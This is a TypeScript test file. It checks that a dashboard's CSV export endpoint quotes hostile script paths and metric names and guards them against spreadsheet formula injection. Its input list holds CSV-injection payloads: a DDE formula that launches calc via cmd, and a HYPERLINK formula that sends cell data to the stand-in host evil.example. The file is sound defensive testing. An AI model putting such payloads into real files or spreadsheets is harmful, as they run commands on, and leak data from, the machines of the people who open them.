import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { CSV_EXECUTION_COLUMNS, openHistoryWriter, type NewExecution } from '@runner-dash/core';
import { parseCsv } from '../../../core/test/export/parseCsv.js';
import { silentLogger, startServer, type RunningServer } from '../../src/index.js';
import { sha256 } from '../fixtureServer.js';

/** What a spreadsheet runs as a formula when a cell starts with it (OWASP's CSV injection list). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** How a number looks in the export: what every spreadsheet reads as a number, nothing else. */
const NUMBER = /^-?\d+(\.\d+)?(e[+-]\d+)?$/;

const CRAFTED_PATHS = [
  'jobs/a,b.py',
  'jobs/"quoted".py',
  '"',
  '""',
  ',',
  'jobs/multi\nline.py',
  'jobs/cr\r\nlf.py',
  'jobs/lone\rcr.py',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '-1',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '=\n=',
  ' =not-a-formula.py',
  "'already-quoted.py",
  'jobs/ünïcødé ✓ 💥.py',
  'jobs/plain.py',
];
const METRICS = {
  plain_metric: 1.5,
  '=danger': -3.25,
  '+plus': 1e-7,
  '-minus': -1e-7,
  '@at': 1e21,
  'comma,name': 123456789.125,
  'quote"name': -0,
  'line\nbreak': 1e308,
  '\ttab': -1e-300,
};

/** The hostile paths: the crafted ones and seeded random strings over the characters that matter. */
function hostilePaths(): string[] {
  const nasty = fc.string({
    unit: fc.constantFrom(',', '"', '\r', '\n', '\t', '=', '+', '-', '@', "'", ' ', 'a', '1', 'é', '💥'),
    minLength: 1,
    maxLength: 12,
  });
  const random = fc.sample(nasty, { seed: 4180, numRuns: 60 });
  return [...new Set([...CRAFTED_PATHS, ...random])];
}

/** What a correct export writes for a text: guarded with `'` when a spreadsheet would run it. */
const guarded = (text: string): string => (FORMULA_START.test(text) ? `'${text}` : text);

describe('GET /api/export/csv with hostile paths and metric names', () => {
  let dir: string;
  let dbPath: string;
  let hashBefore: string;
  let server: RunningServer;
  let runs: Array<NewExecution & { id: number }>;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'runner-dash-csv-hostile-'));
    dbPath = join(dir, 'history.db');
    const writer = await openHistoryWriter(dbPath);
    runs = [];
    try {
      for (const [i, script_path] of hostilePaths().entries()) {
        const second = String(i % 60).padStart(2, '0');
        const minute = String(Math.floor(i / 60)).padStart(2, '0');
        const run: NewExecution = {
          script_path,
          start_time: `2026-11-27T10:${minute}:${second}.000000`,
          end_time: `2026-11-27T10:${minute}:${second}.500000`,
          execution_time_seconds: 0.5 + i,
          exit_code: i % 3 === 0 ? -1 : i % 3 === 1 ? 0 : 2,
          success: i % 3 === 1,
          timed_out: i % 3 === 0,
          stdout_lines: i,
          stderr_lines: i % 2 ? null : 0,
          metrics: Object.fromEntries(Object.entries(METRICS).map(([k, v]) => [k, v * (i % 2 ? 1 : -1)])),
        };
        runs.push({ ...run, id: await writer.record(run) });
      }
    } finally {
      await writer.close();
    }
    hashBefore = sha256(dbPath);
    server = await startServer({ dbPath, host: '127.0.0.1', port: 0, log: silentLogger });
  });
  after(async () => {
    await server?.close();
    assert.equal(sha256(dbPath), hashBefore, 'exporting never writes to the history');
    rmSync(dir, { recursive: true, force: true });
  });

  async function download(query = ''): Promise<string[][]> {
    const res = await fetch(new URL(`api/export/csv${query}`, server.url));
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
    // Strict RFC 4180: an unquoted comma, quote or line break anywhere would throw here.
    return parseCsv(await res.text());
  }

  it('parses as strict RFC 4180 with one record per run, every record as wide as the header', async () => {
    const [header, ...rows] = await download();
    const metricColumns = Object.keys(METRICS).map(guarded).sort();
    assert.equal(header!.length, CSV_EXECUTION_COLUMNS.length + metricColumns.length);
    assert.deepEqual(header!.slice(0, CSV_EXECUTION_COLUMNS.length), [...CSV_EXECUTION_COLUMNS]);
    assert.deepEqual(new Set(header!.slice(CSV_EXECUTION_COLUMNS.length)), new Set(metricColumns));
    assert.equal(rows.length, runs.length);
    for (const row of rows) assert.equal(row.length, header!.length, `record ${row[0]} has ${row.length} fields`);
  });

  it('gives back every path and metric name exactly, guarded where a spreadsheet would run it', async () => {
    const [header, ...rows] = await download();
    const byId = new Map(rows.map((r) => [Number(r[0]), r]));
    for (const run of runs)
      assert.equal(byId.get(run.id)?.[1], guarded(run.script_path), JSON.stringify(run.script_path));
    for (const name of Object.keys(METRICS)) assert.ok(header!.includes(guarded(name)), JSON.stringify(name));
  });

  it('leaves no text cell that a spreadsheet would run as a formula', async () => {
    const [header, ...rows] = await download();
    for (const [r, row] of [header!, ...rows].entries())
      for (const [c, cell] of row.entries())
        assert.ok(
          !FORMULA_START.test(cell) || NUMBER.test(cell),
          `record ${r}, column ${header![c]}: ${JSON.stringify(cell)} would run as a formula`,
        );
  });

  it('keeps numeric cells numeric: negative exit codes, metric values and exponents unguarded and exact', async () => {
    const [header, ...rows] = await download();
    const column = (name: string): number => header!.indexOf(name);
    const byId = new Map(rows.map((r) => [Number(r[0]), r]));
    for (const run of runs) {
      const row = byId.get(run.id)!;
      assert.equal(row[column('exit_code')], String(run.exit_code));
      assert.equal(Number(row[column('execution_time_seconds')]), run.execution_time_seconds);
      assert.equal(row[column('success')], run.success ? '1' : '0');
      assert.equal(row[column('stderr_lines')], run.stderr_lines === null ? '' : '0');
      for (const [name, value] of Object.entries(run.metrics)) {
        const cell = row[column(guarded(name))]!;
        assert.match(cell, NUMBER, `${name} = ${cell} must read as a number`);
        assert.equal(Number(cell), value === 0 ? 0 : value, `${name} of run ${run.id}`);
      }
    }
  });

  it('filters by a hostile path given percent-encoded in the query, and by a hostile metric name', async () => {
    for (const run of runs.filter((r) => CRAFTED_PATHS.includes(r.script_path))) {
      const [header, ...rows] = await download(
        `?script_path=${encodeURIComponent(run.script_path)}&metric_name=${encodeURIComponent('=danger')}`,
      );
      assert.deepEqual(header, [...CSV_EXECUTION_COLUMNS, "'=danger"]);
      assert.deepEqual(
        rows.map((r) => r[1]),
        runs.filter((x) => x.script_path === run.script_path).map((x) => guarded(x.script_path)),
        JSON.stringify(run.script_path),
      );
      assert.equal(Number(rows[0]!.at(-1)), run.metrics['=danger']);
    }
  });
});
